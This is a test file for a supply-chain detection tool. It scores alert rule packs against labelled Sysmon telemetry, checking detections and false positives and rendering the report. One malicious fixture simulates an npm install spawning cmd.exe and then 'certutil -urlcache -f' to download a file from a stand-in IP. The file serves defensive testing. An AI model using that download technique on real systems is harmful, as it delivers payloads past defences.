import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadPacks } from '../../src/alerts/pack.js';
import { ConfigError } from '../../src/config/index.js';
import { parseLabels } from '../../src/eval/labels.js';
import { isActionable, levelScores, partOf, renderReport, score } from '../../src/eval/report.js';
import type { EvalResult, FileResult } from '../../src/eval/run.js';
import { evaluate } from '../../src/eval/run.js';
import { runCli } from '../helpers/cli.js';

function problems(text: string): string[] {
  try {
    parseLabels(text, 'labels.yaml');
    return [];
  } catch (err) {
    if (err instanceof ConfigError) return err.problems.map((p) => `${p.line}:${p.column} ${p.reason}`);
    throw err;
  }
}

const sysmon = (fields: Record<string, unknown>) => JSON.stringify({ Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS1', ...fields });

describe('labels.yaml', () => {
  it('maps files to verdicts, with optional notes', () => {
    const labels = parseLabels('a.ndjson: malicious\nsub/b.ndjson:\n  label: benign\n  os: macos\n  notes: git clone\n', 'labels.yaml');
    expect(labels).toEqual([
      { file: 'a.ndjson', label: 'malicious', notes: undefined, line: 1 },
      { file: 'sub/b.ndjson', label: 'benign', notes: 'git clone', os: 'macos', line: 2 },
    ]);
  });

  it('rejects bad verdicts, unknown keys and paths outside the corpus, with positions', () => {
    expect(problems('a.ndjson: evil\n../x.ndjson: benign\nb.ndjson:\n  label: benign\n  note: x\n  os: solaris\n')).toEqual([
      '1:11 label of \'a.ndjson\' must be malicious or benign',
      "2:1 '../x.ndjson' must be a path inside the corpus folder",
      "5:3 unknown key 'note' (expected label, notes, os)",
      '6:7 `os` must be one of windows, linux, macos',
    ]);
    expect(problems('- a.ndjson\n')).toEqual(['1:1 labels.yaml must map telemetry files to malicious or benign']);
  });
});

describe('evaluate', () => {
  it('scores each pack per file and per rule, and lists unlabelled and missing files', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sw-eval-'));
    mkdirSync(join(dir, 'm'));
    // npm on Windows runs a script through cmd.exe that starts certutil: both packs see it.
    writeFileSync(join(dir, 'm', 'certutil.ndjson'), [
      sysmon({ EventID: 1, UtcTime: '2026-01-01 10:00:00.000', ProcessGuid: '{a-1}', ProcessId: 10, Image: 'C:\\Program Files\\nodejs\\node.exe', CommandLine: '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install', ParentProcessGuid: '{a-0}', ParentProcessId: 5, ParentImage: 'C:\\Windows\\explorer.exe' }),
      sysmon({ EventID: 1, UtcTime: '2026-01-01 10:00:01.000', ProcessGuid: '{a-2}', ProcessId: 11, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /d /s /c "node i.js"', ParentProcessGuid: '{a-1}', ParentProcessId: 10, ParentImage: 'C:\\Program Files\\nodejs\\node.exe' }),
      sysmon({ EventID: 1, UtcTime: '2026-01-01 10:00:02.000', ProcessGuid: '{a-3}', ProcessId: 12, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://203.0.113.1/x x', ParentProcessGuid: '{a-2}', ParentProcessId: 11, ParentImage: 'C:\\Windows\\System32\\cmd.exe' }),
    ].join('\n') + '\n');
    // A benign native build: the seed's node → cmd.exe arm fires, the hardened pack does not.
    writeFileSync(join(dir, 'gyp.ndjson'), [
      sysmon({ EventID: 1, UtcTime: '2026-01-01 11:00:00.000', ProcessGuid: '{b-1}', ProcessId: 20, Image: 'C:\\Program Files\\nodejs\\node.exe', CommandLine: '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" ci', ParentProcessGuid: '{b-0}', ParentProcessId: 5, ParentImage: 'C:\\Windows\\explorer.exe' }),
      sysmon({ EventID: 1, UtcTime: '2026-01-01 11:00:01.000', ProcessGuid: '{b-2}', ProcessId: 21, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /d /s /c "node-gyp rebuild"', ParentProcessGuid: '{b-1}', ParentProcessId: 20, ParentImage: 'C:\\Program Files\\nodejs\\node.exe' }),
    ].join('\n') + '\n');
    writeFileSync(join(dir, 'stray.ndjson'), sysmon({ EventID: 1, UtcTime: '2026-01-01 12:00:00.000' }) + '\n');
    const labels = parseLabels('m/certutil.ndjson: malicious\ngyp.ndjson: benign\ngone.ndjson: benign\n', 'labels.yaml');
    const { packs } = await loadPacks(['seed', 'hardened']);
    const result = await evaluate(dir, labels, packs, { now: Date.now() });

    expect(result.missing.map((m) => m.file)).toEqual(['gone.ndjson']);
    expect(result.unlabelled).toEqual(['stray.ndjson']);
    const [seed, hardened] = score(result);
    expect(seed).toMatchObject({ pack: 'seed', maliciousDetected: 1, maliciousTotal: 1, benignFilesAlerted: 1, benignTotal: 1 });
    expect(hardened).toMatchObject({ pack: 'hardened', maliciousDetected: 1, maliciousTotal: 1, benignAlerts: 0, benignFilesAlerted: 0 });
    expect(hardened!.rules.map((r) => r.title)).toContain('Suspicious Execution Inside a Package Install Subtree');

    const text = renderReport(result);
    expect(text).toContain('| seed | 1 / 1 |');
    expect(text).toContain('| hardened | 1 / 1 | 0 | 0 / 1 |');
    expect(text).toMatch(/benign\s+gyp\.ndjson[\s\S]*seed\s+FALSE POSITIVE[\s\S]*hardened\s+quiet/);
    expect(text).toContain('unlabelled stray.ndjson');
    // The events behind a benign file's alerts, for whoever tunes the rule.
    const gyp = result.files.find((f) => f.file === 'gyp.ndjson')!;
    const seedHits = gyp.packs[0]!.rules[0]!;
    expect(seedHits.events).toEqual([expect.objectContaining({ where: expect.stringMatching(/gyp\.ndjson:2$/), image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe /d /s /c "node-gyp rebuild"' })]);
    const certutil = result.files.find((f) => f.file === 'm/certutil.ndjson')!;
    expect(certutil.packs.flatMap((p) => p.rules).every((r) => r.events === undefined)).toBe(true);
  });
});

describe('scores by level', () => {
  const file = (name: string, label: 'malicious' | 'benign', format: string, hits: Array<[string, number]>): FileResult => ({
    file: name, label, events: 3, format, bad: [],
    packs: [{ pack: 'p', alerts: hits.reduce((n, [, a]) => n + a, 0), rules: hits.map(([level, alerts]) => ({ rule: level, title: `rule ${level}`, level, alerts })) }],
  });
  const result: EvalResult = {
    packs: ['p'], missing: [], unlabelled: [],
    files: [
      file('m/high.log', 'malicious', 'auditd', [['high', 1], ['low', 2]]),
      file('m/low.log', 'malicious', 'auditd', [['low', 1]]),
      file('m/none.log', 'malicious', 'otrf', []),
      file('b/low.log', 'benign', 'auditd', [['low', 3], ['informational', 1]]),
      file('b/medium.log', 'benign', 'otrf', [['medium', 2]]),
      file('holdout/b/quiet.log', 'benign', 'otrf', []),
    ],
  };

  it('counts medium+ and low apart, per group: a low-only malicious file is not detected', () => {
    const byPart = levelScores(result, (f) => partOf(f.file));
    expect(byPart).toEqual([
      { group: 'design', pack: 'p', maliciousTotal: 3, detectedActionable: 1, detectedLowOnly: 1, benignTotal: 2, benignFilesActionable: 1, benignAlertsActionable: 2, benignFilesLowOnly: 1, benignAlertsLow: 4 },
      { group: 'held-out', pack: 'p', maliciousTotal: 0, detectedActionable: 0, detectedLowOnly: 0, benignTotal: 1, benignFilesActionable: 0, benignAlertsActionable: 0, benignFilesLowOnly: 0, benignAlertsLow: 0 },
    ]);
    const byFormat = levelScores(result, (f) => f.format ?? '');
    expect(byFormat.map((r) => [r.group, r.detectedActionable, r.maliciousTotal, r.benignAlertsLow])).toEqual([['auditd', 1, 2, 4], ['otrf', 0, 1, 0]]);
  });

  it('the report lists each benign file’s alerts with their levels, and the per-OS table from the labels', () => {
    const text = renderReport(result, [{ file: 'm/high.log', label: 'malicious', os: 'linux', line: 1 }]);
    expect(text).toContain('- b/low.log (p): rule low [low] ×3; rule informational [informational]');
    expect(text).toContain('- b/medium.log (p): rule medium [medium] ×2');
    expect(text).toContain('| design · linux | p | 1 / 1 | 0 |');
    expect(text).toContain('| design · unknown | p | 0 / 2 | 1 | 1 / 2 | 2 | 1 | 4 |');
    expect(text).toMatch(/malicious m\/low\.log[^\n]*\n\s+p\s+LOW ONLY/);
    expect(text).toMatch(/benign\s+b\/low\.log[^\n]*\n\s+p\s+low \(hunting\)/);
  });
});

describe('supplywatch eval (CLI) on the repository corpus', () => {
  it('the hardened pack detects every visible malicious sample with no medium+ alert on benign ones; the seed does not', async () => {
    const res = await runCli(['eval', 'eval-corpus', '--format', 'json']);
    expect(res.status, res.stderr).toBe(0);
    const out = JSON.parse(res.stdout) as EvalResult & { scores: Array<{ pack: string; maliciousDetected: number; maliciousTotal: number; benignAlerts: number }> };
    expect(out.missing).toEqual([]);
    expect(out.unlabelled).toEqual([]);
    const hardened = out.scores.find((s) => s.pack === 'hardened')!;
    const seed = out.scores.find((s) => s.pack === 'seed')!;
    expect(hardened.maliciousTotal).toBeGreaterThanOrEqual(12);
    // Security 4688 without command lines shows nothing of atomic tests 2–4 (eval-corpus/README.md).
    const missed = out.files.filter((f) => f.label === 'malicious' && f.packs[1]!.alerts === 0).map((f) => f.file);
    expect(missed).toEqual(['t2-pip-setup-py', 't3-workflow-file', 't4-registry-4873'].map((t) => `atomic/security-4688-no-command-line/${t}.xml`));
    expect(hardened.maliciousDetected).toBe(hardened.maliciousTotal - 3);
    // No malicious file is seen only by low (hunting) alerts, which would be a miss at medium+.
    const lowOnly = out.files.filter((f) => f.label === 'malicious' && f.packs[1]!.alerts > 0 && !f.packs[1]!.rules.some((r) => isActionable(r.level))).map((f) => f.file);
    expect(lowOnly).toEqual([]);
    // Benign files may carry low hunting alerts (unnamed or runtime downloads), never medium or above.
    const actionable = out.files.filter((f) => f.label === 'benign').flatMap((f) => f.packs[1]!.rules.filter((r) => isActionable(r.level)).map((r) => `${f.file}: ${r.title}`));
    expect(actionable).toEqual([]);
    expect(seed.maliciousDetected).toBeLessThan(seed.maliciousTotal);
    expect(seed.benignAlerts).toBeGreaterThan(0);
  });

  it('without the corpus tuning the internal-mirror install alerts (the config is what makes it quiet)', async () => {
    const res = await runCli(['eval', 'eval-corpus', '--config', 'none', '--rules', 'hardened', '--format', 'json']);
    expect(res.status, res.stderr).toBe(0);
    const out = JSON.parse(res.stdout) as { files: Array<{ file: string; packs: Array<{ alerts: number }> }> };
    const mirror = out.files.find((f) => f.file === 'benign/internal-mirror-install-linux.ndjson')!;
    expect(mirror.packs[0]!.alerts).toBeGreaterThan(0);
  });

  it('rejects a bad labels file with its position and exit status 2', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sw-eval-bad-'));
    writeFileSync(join(dir, 'labels.yaml'), 'x.ndjson: maybe\n');
    const res = await runCli(['eval', dir]);
    expect(res.status).toBe(2);
    expect(res.stderr).toContain('labels.yaml:1:11: label of');
  });
});
